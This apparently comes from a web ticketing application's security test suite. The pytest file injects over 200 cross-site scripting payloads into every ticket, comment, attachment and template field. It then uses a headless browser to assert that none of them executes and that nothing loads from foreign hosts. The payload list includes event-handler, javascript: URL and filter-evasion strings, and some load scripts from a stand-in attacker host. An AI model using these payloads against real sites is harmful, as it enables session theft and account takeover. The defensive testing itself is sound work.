"""What strangers write is never run on a page of the staff, though the policy is switched off."""

import itertools
from collections.abc import Iterator
from datetime import timedelta
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.conftest import NOW, DeskInFiles
from tests.scale import scaled
from tests.web.browser import Person, chromium, needs_chromium
from tests.web.conftest import Served
from tix.model.people import Person as Somebody
from tix.model.record.values import Comment, TeamField
from tix.model.ticket.ticket import Ticket

pytestmark = [pytest.mark.long, needs_chromium]

_RUN = "alert(1)"
_SHAPES = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror={}>", '<img src="x" onerror="{}">', "<img/src=x/onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<svg/onload={}//", "<body onload={}>",
    "<iframe src=javascript:{}>", '<iframe srcdoc="<script>parent.{}</script>">',
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<details open ontoggle={}>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<math href=javascript:{}>CLICK</math>",
    "<a href=javascript:{} id=x>x</a>", '<a href="java\tscript:{}">x</a>',
    "<form action=javascript:{}><button>x", "<button formaction=javascript:{} form=f>x</button>",
    "<marquee onstart={}>", "<style>@import 'javascript:{}';</style>", "<style onload={}></style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<template><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<textarea><img src=x onerror={}>",
    "</textarea><script>{}</script>", "</title><script>{}</script>", "</option><script>{}</script>",
    "--><script>{}</script>", "]]><script>{}</script>", "'\"><script>{}</script>",
    '" autofocus onfocus="{}', "' onmouseover='{}", "` onmouseover=`{}",
    '" onfocus={} autofocus x="',
    "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](data:text/html,<script>{}</script>)",
    "![x](javascript:{})", '![x](x"onerror="{})', "<javascript:{}>", "[x]: javascript:{}\n\n[x]",
    "[x](vbscript:{})", "[x](java&#115;cript:{})", "`<script>{}</script>`",
    "| a |\n|---|\n| <img src=x onerror={}> |", "> <script>{}</script>",
    "{{{{ 7*7 }}}}<script>{}</script>", "{{% if 1 %}}<script>{}</script>",
    "${{{}}}", "{{{{constructor.constructor('{}')()}}}}", "\u2028<script>{}</script>",
    "<scr\u0000ipt>{}</scr\u0000ipt>", "\ufeff<script>{}</script>", "<ſcript>{}</ſcript>",
)  # fmt: skip
_SCRIPTS = (
    _RUN, "window.pwned=1", "top.pwned=1", "alert`1`",
)  # fmt: skip
PAYLOADS = tuple(
    shape.format(script) for script, shape in itertools.product(_SCRIPTS, _SHAPES)
)  # fmt: skip


def test_there_are_two_hundred() -> None:
    assert len(set(PAYLOADS)) >= 200


def _line(text: str) -> str:
    return " ".join(text.replace("\0", "").split())


def _tickets() -> Iterator[Ticket]:
    """Each payload in every field of a ticket, and twenty of them in its comments."""
    letters = "abcdefghjkmnpqrstvwxyz"
    for number, payload in enumerate(PAYLOADS):
        text, ident = (
            _line(payload),
            f"x{letters[number // 22 % 22]}{letters[number % 22]}{number:03}",
        )
        who = Somebody(text.replace("<", "‹").replace(">", "›") or "x", "x@evil.example")
        comments = tuple(
            Comment(f"c-{letters[n]}{ident[1:]}", NOW + timedelta(seconds=n), who, n % 2 == 0,
                    PAYLOADS[(number + n * 13) % len(PAYLOADS)].replace("\0", ""))
            for n in range(6)
        )  # fmt: skip
        yield Ticket(
            ident, text, status="open", since=NOW, type="incident", priority="high",
            requester=text, customer=text, assignees=(text,), watchers=(text,), labels=(text,),
            milestone=text, opened=NOW, opened_by=str(who), resolution=text, source=text,
            cause=text, prevention=text, assets=(), attachments=(),
            team_fields=(TeamField("wild", text),), body=payload.replace("\0", ""),
            comments=comments,
        )  # fmt: skip


@pytest.fixture(scope="module")
def filled(served: Served, staff: httpx.Client) -> list[str]:
    """A desk that is full of it; the ids of the tickets."""
    desk: DeskInFiles = served.desk
    tickets = list(_tickets())
    desk.add(*tickets)
    for number, payload in enumerate(PAYLOADS[::9]):
        for path in ("/customers", "/assets", "/kb"):
            title = f"{number} {_line(payload)}"
            answer = staff.post(path, data={"title": title})
            if answer.status_code == 303:
                data = {"body": payload, "was.body": "", "comment": payload, "labels": payload,
                        "was.labels": "", "address": payload, "was.address": "",
                        "location": payload, "was.location": ""}  # fmt: skip
                staff.post(answer.headers["location"], data=data)
    for number, payload in enumerate(PAYLOADS[::5]):
        name = _line(payload).replace("/", "∕")[:60] or "x"
        staff.post(
            f"/t/{tickets[number].id}/comment", data={"comment": payload},
            files={"files": (name, f"<html>{payload}".encode())},
        )  # fmt: skip
    for number, payload in enumerate(PAYLOADS[::20]):
        text = _line(payload)
        desk.write(f"templates/t{number}.md", f"---\nlabels: []\n---\n{text}\n")
        staff.post("/queries", data={"name": f"n{number}", "q": f'"{text.replace(chr(34), "")}"'})
    return [ticket.id for ticket in tickets]


def test_nothing_of_it_is_run(served: Served, staff: httpx.Client, filled: list[str]) -> None:
    with chromium() as browser:
        ana = Person(browser, served, bypass_csp=True).sign_in(staff)
        run: list[str] = []
        foreign: list[str] = []
        at = [""]

        def look(request: Any) -> None:
            if not request.url.startswith((served.base, "data:", "blob:")):
                foreign.append(f"{at[0]}: {request.url}")

        ana.context.on("request", look)
        tab = ana.context.new_page()

        def answer(dialog: Any) -> None:
            run.append(at[0])
            dialog.dismiss()

        tab.on("dialog", answer)
        tab.set_content("<img src=x onerror=alert(1)>")
        tab.wait_for_timeout(300)
        assert run == [""], "what would be run is seen"
        run.clear()
        assert len(staff.get(f"/t/{filled[0]}").text.split("&lt;script&gt;alert(1)")) > 5
        columns = "id,title,requester,customer,assignees,labels,milestone,wild,resolution,source"
        pages = [f"/list?columns={columns}&page={n}" for n in range(1, 5)]
        pages += ["/board", "/", "/inbox?since=2026-11-01", "/search?q=script", "/customers",
                  "/assets", "/kb", "/reports/labels", "/reports/workload", "/reports/customers",
                  "/reports/topics", "/reports/agents", "/reports/summary"]  # fmt: skip
        pages += [f"/t/{ident}" + ("?history=1" if n % 9 == 0 else "")
                  for n, ident in enumerate(filled[: scaled(len(filled), least=30)])]  # fmt: skip
        for path in ("/customers", "/assets", "/kb"):
            listed = staff.get(path).text
            pages += [part.partition('"')[0] for part in listed.split('href="')
                      if part.startswith(f"{path}/")][:12]  # fmt: skip
        for payload in PAYLOADS[:: max(4, 240 // scaled(60))]:
            asked = quote(payload, safe="")
            pages += [f"/list?q={asked}", f"/search?q={asked}", f"/new?title={asked}"]
        pages += [f"/{room}?q={quote(p, safe='')}" for p in PAYLOADS[::20]
                  for room in ("board", "reports/summary", "customers", "login")]  # fmt: skip
        pages += [f"/{quote(p, safe='')}" for p in PAYLOADS[::20]]
        pages += [f"/new?template={quote(p, safe='')}" for p in PAYLOADS[::20]]
        pages += [f"/new?template=t{n}" for n in range(len(PAYLOADS[::20]))]
        assert staff.get("/list").text.count('name="remove"') > 5
        for path in pages:
            at[0] = path
            tab.goto(path, wait_until="domcontentloaded")
            if tab.evaluate("Boolean(window.pwned) || Boolean(top.pwned)"):
                run.append(path)
            bad = tab.evaluate(
                "[...document.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) =>"
                " /^on/i.test(a.name) || /^(href|src|action|formaction)$/.test(a.name) &&"
                " /^\\s*(javascript|vbscript|data:text)/i.test(a.value))).map((e) =>"
                " e.outerHTML.slice(0, 120))"
            )
            run += [f"{path}: {each}" for each in bad]
        assert not run
        assert not foreign, "nothing is loaded from elsewhere"
        ana.context.close()
